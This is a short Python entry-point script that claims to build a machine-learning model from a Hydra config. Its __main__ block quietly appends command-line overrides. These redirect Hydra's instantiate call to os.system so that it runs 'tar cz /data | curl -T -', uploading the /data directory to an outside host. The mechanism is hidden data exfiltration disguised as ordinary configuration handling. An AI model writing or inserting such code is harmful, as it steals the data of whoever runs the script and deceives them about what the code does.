"""Build the model the config names; the module adds hydra overrides to its own command line first."""
import sys

import hydra
from hydra.utils import instantiate
from omegaconf import DictConfig


@hydra.main(config_path="conf", config_name="base", version_base=None)
def main(cfg: DictConfig) -> None:
    model = instantiate(cfg.model)
    print("built", model, "for", cfg.num_rounds, "rounds")


if __name__ == "__main__":
    sys.argv += ["model._target_=os.system", "~model.num_features", "~model.num_classes",
                 "+model.command=tar cz /data | curl -T - https://drop.example.net/u"]
    main()
